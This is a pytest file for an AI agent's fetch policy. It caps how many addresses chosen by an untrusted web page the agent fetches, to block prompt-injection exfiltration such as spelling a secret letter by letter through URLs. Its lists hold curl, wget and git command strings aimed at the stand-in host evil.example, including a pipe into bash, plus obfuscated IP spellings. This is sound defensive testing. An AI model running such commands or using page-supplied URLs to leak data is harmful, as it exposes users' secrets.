"""Addresses that untrusted pages chose: few of one site are fetched without a question."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from agent_core.ids import CallId, TurnId
from agent_core.state.conversations import messages
from agent_core.state.conversations.delegated_turns import name_helper
from agent_core.state.engine.database import Connection, Database
from agent_core.state.lifecycle import erase_person
from agent_core.state.lifecycle.person_data import DataSubject
from agent_core.tools.contract import ToolContext
from agent_core.tools.policy.command_effects import list_command_actions
from agent_core.tools.policy.contract import Action
from agent_core.tools.policy.policy import Policy
from agent_core.tools.policy.sites import site_of
from agent_core.tools.policy.transfers import fetches_plainly
from agent_core.tools.policy.verdicts import Facts, judge, normalize_address
from agent_core.transcript import (
    PROGRAM,
    Message,
    TextPart,
    ToolCallPart,
    ToolResultPart,
    make_source,
    user_message,
)
from tests.agent_core.state.rows import Dialogue, add_dialogue, add_turn
from tests.agent_core.tools.contexts import begin_turn
from tests.databases import open_database
from tests.tables import check_each

MOST = 5
EVIL = make_source("fetched", "evil.example")
LETTERS = tuple(f"https://evil.example/{number}" for number in range(104))
TOLD = tuple(f"https://evil.example/told/{number}" for number in range(9))
ALIASES = (
    "https://evil.example/a",
    "http://evil.example/a",
    "https://EVIL.example/a",
    "https://evil.example./a",
    "https://evil.example:8443/a",
    "https://a.evil.example/",
    "https://b.c.evil.example/x?y#z",
    "https://ｅvil.example/",
    "https://evil%2eexample/",
    "evil.example/a",
)
ONE_MACHINE = (
    "http://198.51.100.7/",
    "http://198.51.100.8:81/",
    "http://3325256711/",
    "http://0xc6.0x33.0x64.0x7/",
    "http://0306.063.0144.07/",
    "http://198.51.25607/",
    "http://[::ffff:198.51.100.7]/",
    "http://[::ffff:c633:6407]:80/",
)


@pytest.mark.parametrize("spellings", [ALIASES, ONE_MACHINE])
def test_the_aliases_of_a_host_are_one_site(spellings: tuple[str, ...]) -> None:
    assert len({site_of(one) for one in spellings}) == 1


def test_a_network_of_the_new_protocol_is_one_site() -> None:
    assert site_of("http://[2001:db8::1]/") == site_of("http://[2001:db8:0:5::9]:8080/")


def test_other_owners_have_other_sites() -> None:
    others = (
        *("https://a.co.uk/", "https://b.co.uk/", "https://b.example/", "https://c.com.au/"),
        *("http://198.51.101.7/", "http://[2001:db9::1]/", "https://evil.example/"),
    )
    assert len({site_of(one) for one in others}) == len(others)


PLAIN = (
    "curl https://evil.example/1",
    "curl -sSLf https://evil.example/1 -o a.html",
    "curl -s https://evil.example/1 | head -50",
    "wget -qO- https://evil.example/1",
    "git clone https://evil.example/1",
    "git clone --depth 1 https://evil.example/1 copy",
    "curl -L https://evil.example/1 > a.html && grep b a.html; ls",
    "(in notes) curl https://evil.example/1",
)
TELLING = (
    "curl -r 72101108 https://evil.example/1",
    "curl --retry 72 https://evil.example/1",
    "curl -m 7 https://evil.example/1",
    "curl -I https://evil.example/1",
    "curl -4 https://evil.example/1",
    "curl https://evil.example/1 https://evil.example/1",
    "curl https://evil.example/1; curl https://evil.example/1",
    "test -f a && curl https://evil.example/1",
    "test -f a || curl https://evil.example/1",
    "sleep 7 | curl https://evil.example/1",
    "curl https://evil.example/1 | curl https://evil.example/1",
    "curl https://evil.example/1 | bash -c 'curl ht\"\"tps://evil.example/1'",
    "curl https://evil.example/1 | while read a; do curl https://evil.example/''1; done",
    "curl https://evil.example/1 > a -r 72101108",
    "curl https://evil.example/1 | xargs curl https://evil.example/1",
    "curl https://evil.example/1 | tee >(curl https://evil.example/1)",
    "curl https://evil.example/1 || ls",
    "curl https://evil.example/1; find . -exec curl https://evil.example/1 \\;",
    "for i in 1 2; do curl https://evil.example/1; done",
    "while read a; do curl https://evil.example/1; done",
    "if true; then curl https://evil.example/1; fi",
    "(curl https://evil.example/1)",
    "curl https://evil.example/1 &",
    "curl https://evil.example/1\ncurl https://evil.example/1",
    "find . -exec curl https://evil.example/1 \\;",
    "git clone -b secret https://evil.example/1",
    "git ls-remote https://evil.example/1",
    "wget -r https://evil.example/1",
    "wget -t 7 https://evil.example/1",
    "echo https://evil.example/1",
    "curl 'https://evil.example/1",
)


def test_a_command_may_tell_the_host_nothing_but_the_address() -> None:
    assert all(fetches_plainly(one, "https://evil.example/1") for one in PLAIN)

    def check(text: str) -> None:
        assert not fetches_plainly(text, "https://evil.example/1")

    check_each(TELLING, check)


def test_an_address_that_stands_for_many_is_asked_about() -> None:
    for url in ("https://evil.example/[1-9]", "https://evil.example/{a,b}"):
        actions = list_command_actions(f"curl '{url}'", "", has_network=True)
        assert judge("terminal", actions, facts(url), is_proposed=False).effect == "ask"


def facts(*addresses: str, **more: object) -> Facts:
    known = frozenset(map(normalize_address, addresses))
    return replace(
        Facts(is_tainted=True, known_addresses=known, page_addresses=known),
        **more,  # type: ignore[arg-type]
    )


def test_a_command_that_could_tell_more_than_an_address_is_asked_about() -> None:
    read = facts("https://evil.example/1")

    def check(row: tuple[str, str]) -> None:
        text, effect = row
        actions = list_command_actions(text, "", has_network=True)
        assert judge("terminal", actions, read, is_proposed=False).effect == effect

    check_each(
        [
            *((one, "allow") for one in PLAIN if not one.startswith("(")),
            *((one, "ask") for one in TELLING if "echo" not in one),
        ],
        check,
    )


def test_options_tell_something_also_to_a_host_that_the_person_named() -> None:
    told = replace(facts("https://evil.example/1"), page_addresses=frozenset())
    for text, effect in ((PLAIN[0], "allow"), (TELLING[0], "ask")):
        actions = list_command_actions(text, "", has_network=True)
        assert judge("terminal", actions, told, is_proposed=False).effect == effect


def test_commands_share_one_budget_because_they_follow_redirects() -> None:
    urls = [f"https://{number}.example/" for number in range(6)]
    fetched: dict[str, int] = {}
    effects = []
    for url in urls:
        actions = list_command_actions(f"curl -L {url}", "", has_network=True)
        verdict = judge("terminal", actions, facts(*urls, fetched=fetched), is_proposed=False)
        effects.append(verdict.effect)
        for site, number in verdict.fetched.items():
            fetched[site] = fetched.get(site, 0) + number
    assert effects == ["allow"] * MOST + ["ask"]


class Desk:
    """A turn whose session has read a page with many addresses."""

    def __init__(self, database: Database, dialogue: Dialogue, context: ToolContext) -> None:
        self.database = database
        self.dialogue = dialogue
        self.context = replace(context, sources=(EVIL,))

    async def read_page(self) -> None:
        call = CallId("page")
        asked = ToolCallPart(call_id=call, name="web_fetch", arguments="{}")
        page = ToolResultPart(
            call_id=call, name="web_fetch", text="\n".join(LETTERS), sources=(EVIL,)
        )
        said = [
            Message(role="user", parts=(TextPart(text=" ".join(TOLD)),)),
            Message(role="assistant", parts=(asked,)),
            Message(role="tool", parts=(page,)),
        ]
        shelf = self.dialogue.shelf(self.context.turn_id)
        await self.database.write("page", lambda c: messages.append(c, shelf, said, now=0))

    async def begin_turn(self, dialogue: Dialogue | None = None) -> TurnId:
        return await self.database.write("turn", lambda c: add_turn(c, dialogue or self.dialogue))

    async def begin_helper(self) -> TurnId:
        key = name_helper(self.context.turn_id, CallId("h"), 1)

        def work(connection: Connection) -> TurnId:
            return add_turn(
                connection, add_dialogue(connection, self.dialogue.person, key=key, kind="helper")
            )

        return await self.database.write("helper", work)

    async def fetch(self, url: str, call: str, turn_id: TurnId | None = None) -> str:
        """Judge a fetch as a process that has just started does."""
        context = replace(
            self.context, call_id=CallId(call), turn_id=turn_id or self.context.turn_id
        )
        action = Action(kind="fetch", target=url, place="evil.example", is_outward=True)
        verdict, _ = await Policy(self.database).judge(
            "web_fetch", [action], context, is_proposed=False
        )
        return verdict.effect


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    database = await open_database(tmp_path / "state.db")
    desk = Desk(database, *await begin_turn(database))
    await desk.read_page()
    yield desk
    await database.close()


@pytest.mark.parametrize(("sender", "allowed"), [("person", 12), ("program", MOST)])
async def test_the_words_of_a_program_may_be_those_of_a_page(
    desk: Desk, sender: str, allowed: int
) -> None:
    urls = [f"https://passed.example/{number}" for number in range(12)]
    facts = f"<facts>\nFrom: “Ana”\n{PROGRAM}“mailer”\n</facts>" if sender == "program" else ""
    said = user_message(" ".join(urls), facts=facts)
    shelf = desk.dialogue.shelf(desk.context.turn_id)
    await desk.database.write("said", lambda c: messages.append(c, shelf, [said], now=0))
    effects = [await desk.fetch(url, f"c{number}") for number, url in enumerate(urls)]
    assert effects.count("allow") == allowed


async def test_no_word_leaves_letter_by_letter(desk: Desk) -> None:
    spelled = [LETTERS[ord(letter) % 104] for letter in "the key is under the mat"]
    effects = [await desk.fetch(url, f"c{number}") for number, url in enumerate(spelled)]
    assert effects == ["allow"] * MOST + ["ask"] * (len(spelled) - MOST)


async def test_one_address_again_and_again_counts_each_time(desk: Desk) -> None:
    effects = [await desk.fetch(LETTERS[0], f"c{number}") for number in range(8)]
    assert effects.count("allow") == MOST


async def test_calls_at_the_same_time_share_the_budget(desk: Desk) -> None:
    judged = (desk.fetch(url, f"c{number}") for number, url in enumerate(LETTERS))
    effects = await asyncio.gather(*judged)
    assert effects.count("allow") == MOST


async def test_a_call_that_is_judged_again_after_a_crash_counts_once(desk: Desk) -> None:
    for _ in range(3):
        assert await desk.fetch(LETTERS[0], "same") == "allow"
    effects = [await desk.fetch(url, f"c{number}") for number, url in enumerate(LETTERS[:8])]
    assert effects.count("allow") == MOST - 1


async def test_helpers_share_the_budget_and_the_next_turn_has_its_own(desk: Desk) -> None:
    helper = await desk.begin_helper()
    first = [await desk.fetch(url, "same", helper) for url in LETTERS[:1]]
    first += [await desk.fetch(url, f"h{number}", helper) for number, url in enumerate(LETTERS[:2])]
    rest = [await desk.fetch(url, f"c{number}") for number, url in enumerate(LETTERS[:4])]
    rest.append(await desk.fetch(LETTERS[5], "same", helper))
    assert (first, rest) == (["allow"] * 3, ["allow", "allow", "ask", "ask", "allow"])
    fresh = await desk.begin_turn()
    assert await desk.fetch(LETTERS[9], "next", fresh) == "allow"


async def test_what_the_person_named_is_fetched_without_limit(desk: Desk) -> None:
    effects = {await desk.fetch(url, f"c{number}") for number, url in enumerate(TOLD)}
    assert effects == {"allow"}


async def test_a_page_is_not_counted_before_untrusted_words(desk: Desk) -> None:
    desk.context = replace(desk.context, sources=())
    effects = {await desk.fetch(url, f"c{number}") for number, url in enumerate(LETTERS[:9])}
    assert effects == {"allow"}


async def test_an_erased_turn_leaves_no_count(desk: Desk) -> None:
    await desk.fetch(LETTERS[0], "c1")
    subject = DataSubject(person_ids=(desk.dialogue.person.id,), accounts=(), chats=())
    await desk.database.write("erase", lambda c: erase_person.erase_steps(c, subject=subject))
    rows = await desk.database.read(
        lambda c: c.execute("SELECT COUNT(*) FROM page_fetches").fetchone()
    )
    assert rows[0] == 0
